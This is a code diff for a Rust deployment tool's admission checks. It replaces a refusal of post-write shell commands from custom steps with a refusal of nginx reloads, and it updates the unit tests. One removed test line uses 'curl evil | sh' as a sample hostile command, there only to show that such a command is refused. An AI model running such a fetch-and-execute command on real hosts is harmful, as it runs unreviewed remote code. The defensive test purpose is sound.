@@ -28,10 +28,10 @@ pub enum Refusal {
     )]
     NotGranted { step: String, action: String, role: Role, operation: &'static str, class: &'static str, granted: String, hint: String },
     #[error(
-        "step `{step}` proposed action `{action}` whose {role} writes {path} and then runs a shell command on the host; \
-         only ferry's built-in steps may do that (a custom step's command would run unreviewed by ferry's authors)"
+        "step `{step}` proposed action `{action}` whose {role} writes {path} and then reloads nginx on the host; \
+         only ferry's built-in steps may do that (a custom step's site file would start serving unreviewed by ferry's authors)"
     )]
-    ShellCommand { step: String, action: String, role: Role, path: String },
+    Reload { step: String, action: String, role: Role, path: String },
     #[error("step `{step}` proposed action `{action}` whose {role} writes {path} with mode {mode:o}, which is {why}; no step may write such a file")]
     UnsafeMode { step: String, action: String, role: Role, path: String, mode: u32, why: &'static str },
     #[error(
@@ -124,9 +124,9 @@ fn check(rights: StepRights<'_>, action: &str, role: Role, op: &Operation) -> Re
             hint,
         });
     }
-    if let Operation::Vm(VmOp::WriteFile(VmFile { path, mode, then, .. })) = op {
-        if then.is_some() && !rights.builtin {
-            return Err(Refusal::ShellCommand { step: rights.step.into(), action: action.into(), role, path: path.clone() });
+    if let Operation::Vm(VmOp::WriteFile(VmFile { path, mode, reload, .. })) = op {
+        if *reload && !rights.builtin {
+            return Err(Refusal::Reload { step: rights.step.into(), action: action.into(), role, path: path.clone() });
         }
         if let Some(why) = unsafe_mode(*mode) {
             return Err(Refusal::UnsafeMode { step: rights.step.into(), action: action.into(), role, path: path.clone(), mode: *mode, why });
@@ -174,8 +174,8 @@ mod tests {
         Operation::Fly(FlyOp::SetSecrets(FlySecrets { app: "other".into(), names: vec!["DATABASE_URL".into()] }))
     }
 
-    fn vm_file(mode: u32, then: Option<&str>) -> Operation {
-        Operation::Vm(VmOp::WriteFile(VmFile { target: "t".into(), path: "/usr/local/bin/x".into(), contents: "x".into(), mode, then: then.map(Into::into) }))
+    fn vm_file(mode: u32, reload: bool) -> Operation {
+        Operation::Vm(VmOp::WriteFile(VmFile { target: "t".into(), path: "/usr/local/bin/x".into(), contents: "x".into(), mode, reload }))
     }
 
     fn custom(grant: &OperationGrant) -> StepRights<'_> {
@@ -214,11 +214,11 @@ mod tests {
     }
 
     #[test]
-    fn a_shell_command_is_refused_from_a_custom_step_and_allowed_from_a_builtin_one() {
+    fn a_reload_is_refused_from_a_custom_step_and_allowed_from_a_builtin_one() {
         let grant = OperationGrant::parse(&["vm"]).unwrap();
-        let mut actions = vec![action("w", Risk::Safe, vm_file(0o644, Some("curl evil | sh")), Undo::RestorePrevious)];
+        let mut actions = vec![action("w", Risk::Safe, vm_file(0o644, true), Undo::RestorePrevious)];
         let err = Admission::new().admit(custom(&grant), &mut actions).unwrap_err();
-        assert!(matches!(err, Refusal::ShellCommand { .. }), "{err}");
+        assert!(matches!(err, Refusal::Reload { .. }), "{err}");
         let builtin = StepRights { step: "vm-deploy", builtin: true, grant: &grant };
         Admission::new().admit(builtin, &mut actions).unwrap();
         assert_eq!(actions[0].risk, Risk::Disruptive);
@@ -235,7 +235,7 @@ mod tests {
             (0o666, "writable by every user"),
             (0o100644, "not a permission mode (bits above 7777)"),
         ] {
-            let mut actions = vec![action("w", Risk::Safe, vm_file(mode, None), Undo::RestorePrevious)];
+            let mut actions = vec![action("w", Risk::Safe, vm_file(mode, false), Undo::RestorePrevious)];
             let err = Admission::new().admit(builtin, &mut actions).unwrap_err();
             assert!(matches!(err, Refusal::UnsafeMode { why: w, .. } if w == why), "{mode:o}: {err}");
         }
